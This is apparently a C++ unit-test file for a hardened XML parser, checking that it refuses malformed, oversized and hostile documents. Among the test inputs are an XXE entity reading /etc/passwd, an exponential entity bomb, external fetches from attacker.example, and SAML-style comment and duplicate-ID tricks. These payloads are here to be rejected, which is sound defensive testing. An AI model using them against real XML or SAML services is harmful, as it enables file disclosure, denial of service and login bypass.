#include "xml/document.h"

#include <gmock/gmock.h>

namespace segue::xml {
namespace {

using testing::HasSubstr;

std::string nested(int depth) {
  std::string out;
  for (int i = 0; i < depth; ++i) out += "<a>";
  for (int i = 0; i < depth; ++i) out += "</a>";
  return out;
}

struct Refusal {
  const char* name;
  std::string xml;
  const char* why;
};

class Refused : public testing::TestWithParam<Refusal> {};

TEST_P(Refused, document_is_refused_with_its_reason) {
  const auto parsed = Document::parse(GetParam().xml);
  ASSERT_FALSE(parsed.ok());
  EXPECT_THAT(parsed.error().description, HasSubstr(GetParam().why));
}

std::string with_attributes(int count) {
  std::string out = "<a";
  for (int i = 0; i < count; ++i) out += " b" + std::to_string(i) + "=''";
  return out + "/>";
}

std::string many_elements(int count) {
  std::string out = "<a>";
  for (int i = 0; i < count; ++i) out += "<b/>";
  return out + "</a>";
}

const Refusal kRefusals[] = {
    {"nothing", "", "not well-formed"},
    {"white_space", "  \n ", "not well-formed"},
    {"plain_text", "hello", "not well-formed"},
    {"truncated", "<a><b>text</b>", "not well-formed"},
    {"two_roots", "<a/><b/>", "not well-formed"},
    {"text_after_the_root", "<a/>more", "not well-formed"},
    {"an_undeclared_prefix", "<x:a/>", "not well-formed"},
    {"an_attribute_twice", "<a b='1' b='2'/>", "not well-formed"},
    {"an_attribute_twice_by_namespace", "<a xmlns:x='u' xmlns:y='u' x:b='1' y:b='2'/>", "not well-formed"},
    {"a_doctype", "<!DOCTYPE a><a/>", "DOCTYPE"},
    {"a_doctype_with_an_external_file", "<!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>", "DOCTYPE"},
    {"an_external_entity", "<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>", "DOCTYPE"},
    {"an_entity_bomb",
     "<!DOCTYPE a [<!ENTITY x0 'ha'><!ENTITY x1 '&x0;&x0;&x0;&x0;&x0;&x0;&x0;&x0;'><!ENTITY x2 "
     "'&x1;&x1;&x1;&x1;&x1;&x1;&x1;&x1;'><!ENTITY x3 '&x2;&x2;&x2;&x2;&x2;&x2;&x2;&x2;'>]><a>&x3;</a>",
     "DOCTYPE"},
    {"a_parameter_entity", "<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://attacker.example/x.dtd'> %p;]><a/>", "DOCTYPE"},
    {"a_default_for_an_id", "<!DOCTYPE a [<!ATTLIST a ID CDATA 'x'>]><a/>", "DOCTYPE"},
    {"an_unknown_entity", "<a>&nbsp;</a>", "not well-formed"},
    {"an_unknown_entity_in_an_attribute", "<a b='&nbsp;'/>", "not well-formed"},
    {"a_comment_in_text", "<a>ada@example.com<!-- -->.attacker.example</a>", "comment"},
    {"a_comment_before_the_root", "<!-- x --><a/>", "comment"},
    {"a_comment_after_the_root", "<a/><!-- x -->", "comment"},
    {"a_processing_instruction", "<a>ada<?x y?>mallory</a>", "processing instruction"},
    {"a_stylesheet", "<?xml-stylesheet href='http://attacker.example/'?><a/>", "processing instruction"},
    {"an_id_twice", "<a ID='x'><b ID='x'/></a>", "same ID"},
    {"an_id_twice_in_other_letters", "<a ID='x'><b Id='x'/></a>", "same ID"},
    {"an_id_twice_by_character_reference", "<a ID='x'><b ID='&#120;'/></a>", "same ID"},
    {"an_id_of_xml_and_one_of_saml", "<a ID='x'><b xml:id='x'/></a>", "same ID"},
    {"an_id_of_saml_1_1", "<a ID='x'><b AssertionID='x'/></a>", "same ID"},
    {"too_deep", nested(65), "nested too deeply"},
    {"much_too_deep", nested(5000), "nested too deeply"},
    {"too_many_attributes", with_attributes(65), "too many attributes"},
    {"too_many_elements", many_elements(4001), "too many elements"},
    {"a_namespace_that_canonical_form_would_repeat", "<a xmlns:b='urn:" + std::string(509, 'x') + "'><b:c/></a>",
     "namespace is too long"},
    {"too_long", "<a>" + std::string(64 * 1024, 'x') + "</a>", "longer than"},
    {"no_utf_8", "<a>\xC3\x28</a>", "not UTF-8"},
    {"latin_1", "<?xml version='1.0' encoding='ISO-8859-1'?><a/>", "not UTF-8"},
    {"utf_7", "<?xml version='1.0' encoding='UTF-7'?><a>+ADw-</a>", ""},
    {"utf_16", std::string("\xFF\xFE<\0a\0/\0>\0", 10), "not UTF-8"},
    {"a_zero_byte", std::string("<a>\0</a>", 8), "not UTF-8"},
    {"a_control_character", "<a>\x01</a>", "not well-formed"},
    {"a_control_character_by_reference", "<a>&#1;</a>", "not well-formed"},
};

INSTANTIATE_TEST_SUITE_P(Document, Refused, testing::ValuesIn(kRefusals), [](const auto& c) { return c.param.name; });

TEST(Document, reads_elements_attributes_and_text_by_namespace) {
  const auto parsed = Document::parse(
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<s:a xmlns:s=\"urn:s\" ID=\"_1\" s:other=\"no\"><s:b>one &amp; "
      "<![CDATA[<two>]]></s:b><b xmlns='urn:t'/><c><d/>x</c><e>1</e><e>2</e></s:a>\n");
  ASSERT_TRUE(parsed.ok()) << parsed.error().description;
  const auto root = parsed->root();
  EXPECT_TRUE(root.is("urn:s", "a"));
  EXPECT_FALSE(root.is("urn:t", "a"));
  EXPECT_EQ(root.attribute("ID"), "_1");
  EXPECT_EQ(root.attribute("other"), std::nullopt);  // that one is in a namespace
  EXPECT_EQ(root.only_child("urn:s", "b")->text(), "one & <two>");
  EXPECT_EQ(root.only_child("urn:t", "b")->text(), "");
  EXPECT_EQ(root.only_child("", "c")->text(), std::nullopt);
  EXPECT_FALSE(root.only_child("", "e").has_value());
  EXPECT_EQ(root.children("", "e").size(), 2u);
  EXPECT_EQ(root.children().size(), 5u);
}

TEST(Document, takes_what_is_just_within_the_limits) {
  EXPECT_TRUE(Document::parse(nested(64)).ok());
  EXPECT_TRUE(Document::parse(with_attributes(64)).ok());
  EXPECT_TRUE(Document::parse(many_elements(3999)).ok());
  EXPECT_TRUE(Document::parse("<a xmlns:b='urn:" + std::string(508, 'x') + "' xmlns=''/>").ok());
  EXPECT_TRUE(Document::parse("<a>" + std::string(60 * 1024, 'x') + "</a>").ok());
  EXPECT_FALSE(Document::parse("<a/>", {.bytes = 3}).ok());
}

TEST(Document, has_ids_that_are_names) {
  for (const auto* const good : {"_1", "a", "A-b.c_9"}) EXPECT_TRUE(is_plain_name(good)) << good;
  for (const auto* const bad : {"", "1a", "-a", "a b", "a'b", "a:b", "x')or('", "\xC3\xA9"})
    EXPECT_FALSE(is_plain_name(bad)) << bad;
}

}  // namespace
}  // namespace segue::xml
